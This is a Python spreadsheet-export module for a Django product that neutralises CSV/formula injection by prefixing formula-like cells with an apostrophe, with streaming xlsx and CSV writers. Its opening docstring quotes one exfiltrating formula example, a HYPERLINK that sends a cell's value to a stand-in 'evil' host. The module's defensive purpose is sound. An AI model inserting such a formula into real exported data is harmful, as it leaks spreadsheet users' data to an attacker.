"""Every spreadsheet the product writes goes through here.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A1,"Click")`, `@SUM(…)`, `-2+3`): a
value that came from a file or a form must never come out of our files as one. `neutralise`
prefixes such text with an apostrophe — the OWASP "CSV injection" remedy, shown as text by every
spreadsheet program — and the writers below apply it to every text cell, so no writer can forget.
Numbers, dates and booleans are written as they are (a negative balance stays a number).
"""
from __future__ import annotations

import csv
import datetime
import io
import itertools
from collections.abc import Iterable, Iterator, Sequence

from django.utils import timezone

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a cell that no spreadsheet program evaluates: formula-like text gets a leading
    apostrophe; None becomes an empty cell; everything else is returned unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def xlsx_bytes(rows: Iterable[Sequence], *, header: Sequence[str], title: str = "Sheet1") -> bytes:
    """Rows as a one-sheet xlsx (openpyxl in write-only mode: memory stays flat), every cell
    neutralised."""
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(title[:31])
    # openpyxl makes a formula of any text beginning with "="; neutralised text never does
    ws.append([neutralise(v) for v in header])
    for row in rows:
        ws.append([neutralise(v) for v in row])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


# --- streaming writers ------------------------------------------------------------------------
# A report is a header and an iterator of tuples (core/selectors/reports.py); these write it with
# memory that stays flat whatever the number of rows: openpyxl's write-only mode (rows go to a
# temporary file as they are appended), and csv in chunks of text for a StreamingHttpResponse.

# how each column kind of a report is shown in Excel (Column.kind)
NUMBER_FORMATS = {
    "int": "0",
    "money": "#,##0.00",
    "days": "0.0",
    "percent": '0.0"%"',           # the value is already a percentage (50.0), not a fraction
    "date": "yyyy-mm-dd",
    "datetime": "yyyy-mm-dd hh:mm",
}
HEADER_FILL = "DCE6F1"
CSV_CHUNK_ROWS = 500


class Counted:
    """Iterate `rows`, counting them (`.count`): what an export log records."""

    def __init__(self, rows):
        self._rows = rows
        self.count = 0

    def __iter__(self):
        for row in self._rows:
            self.count += 1
            yield row


def _local_naive(value, tz=None):
    # spreadsheets have no time zones: a moment is written as the site's local time (`tz`, looked
    # up once per file by the writers)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        return value.astimezone(tz or timezone.get_current_timezone()).replace(tzinfo=None)
    return value


def xlsx_write(rows: Iterable[Sequence], *, columns, title: str, out, sheet: str = "Report") -> None:
    """Rows as an xlsx written to the binary file `out`: a bold title row (`title`: the report and
    the filters that made it), then the header, bold on a fill and frozen with the title above it,
    columns as wide as `Column.width`, and each cell with its column kind's number format. Every
    cell is neutralised. Write-only mode: memory stays flat."""
    import openpyxl
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])
    for index, column in enumerate(columns, 1):
        ws.column_dimensions[get_column_letter(index)].width = column.width
    ws.freeze_panes = "A3"
    title_cell = WriteOnlyCell(ws, value=neutralise(title))
    title_cell.font = Font(bold=True, size=13)
    ws.append([title_cell])
    bold, fill = Font(bold=True), PatternFill("solid", fgColor=HEADER_FILL)
    header = []
    for column in columns:
        cell = WriteOnlyCell(ws, value=neutralise(column.label))
        cell.font, cell.fill = bold, fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        header.append(cell)
    ws.append(header)
    # one cell per column, styled once and refilled for every row: openpyxl writes a row as it is
    # appended, so the cells are free again at once (this is what it does itself for plain values)
    cells, moments = [], []
    for column in columns:
        cell = WriteOnlyCell(ws)
        if column.kind in NUMBER_FORMATS:
            cell.number_format = NUMBER_FORMATS[column.kind]
        cells.append(cell)
        moments.append(column.kind == "datetime")
    tz = timezone.get_current_timezone()
    for row in rows:
        line = []
        for cell, moment, value in zip(cells, moments, row):
            if value is None:
                line.append(None)
                continue
            cell.value = neutralise(_local_naive(value, tz) if moment else value)
            line.append(cell)
        ws.append(line)
    wb.save(out)


def neutralise_row(row) -> list:
    """`neutralise` on every cell of a row, in one pass (no call per cell: a 100,000-row export has
    1.4 million cells), except that None stays None — an empty cell to csv.writer and openpyxl."""
    starts = FORMULA_STARTS
    return [("'" + v) if isinstance(v, str) and v.startswith(starts) else v for v in row]


def csv_chunks(rows: Iterable[Sequence], *, columns, moments_as_text: bool = False) -> Iterator[str]:
    """Rows as CSV text, in chunks of `CSV_CHUNK_ROWS` rows (for a StreamingHttpResponse or a
    file): a UTF-8 byte-order mark (Excel then reads the accents right), the header, the rows;
    every cell neutralised, moments in the site's local time, "YYYY-MM-DD HH:MM:SS".

    A datetime column holds datetimes (written so here, or None), or with `moments_as_text` only
    that text already (`Report.rows_for_csv`: written by the database from a timestamp, so it never
    begins like a formula, and is not looked at again). The other columns are looked at cell by
    cell, and a row with a formula-like cell is neutralised whole (rare: most rows go out as they
    came)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    writer.writerow([neutralise(c.label) for c in columns])
    yield buffer.getvalue()         # the response starts before the first row is read
    buffer.seek(0)
    buffer.truncate()
    kinds = [c.kind for c in columns]
    moments = [] if moments_as_text else [i for i, kind in enumerate(kinds) if kind == "datetime"]
    others = [i for i, kind in enumerate(kinds) if kind != "datetime"] if moments_as_text else range(len(kinds))
    tz = timezone.get_current_timezone()
    starts = FORMULA_STARTS
    rows = iter(rows)
    while True:
        lines = []
        for row in itertools.islice(rows, CSV_CHUNK_ROWS):
            for i in moments:
                if isinstance(row[i], datetime.datetime):
                    row = _moments_as_text(row, moments, tz)
                    break
            for i in others:
                value = row[i]
                if isinstance(value, str) and value.startswith(starts):
                    row = neutralise_row(row)
                    break
            lines.append(row)
        if not lines:
            return
        writer.writerows(lines)
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def _moments_as_text(row, moments, tz) -> list:
    row = list(row)
    for i in moments:
        if isinstance(row[i], datetime.datetime):
            row[i] = _local_naive(row[i], tz).isoformat(sep=" ", timespec="seconds")
    return row


def write_rows(rows: Iterable[Sequence], *, columns, title: str, sheet: str, fmt: str, out,
               moments_as_text: bool = False) -> None:
    """Rows as an xlsx (`xlsx_write`) or a csv (`csv_chunks`) written to the binary file `out`: the one
    writer behind reports, lists and background exports, so every copy of the same rows is the same."""
    if fmt == "xlsx":
        xlsx_write(rows, columns=columns, title=title, out=out, sheet=sheet)
    elif fmt == "csv":
        for chunk in csv_chunks(rows, columns=columns, moments_as_text=moments_as_text):
            out.write(chunk.encode("utf-8"))
    else:
        raise ValueError(f"no format {fmt!r}: xlsx or csv")
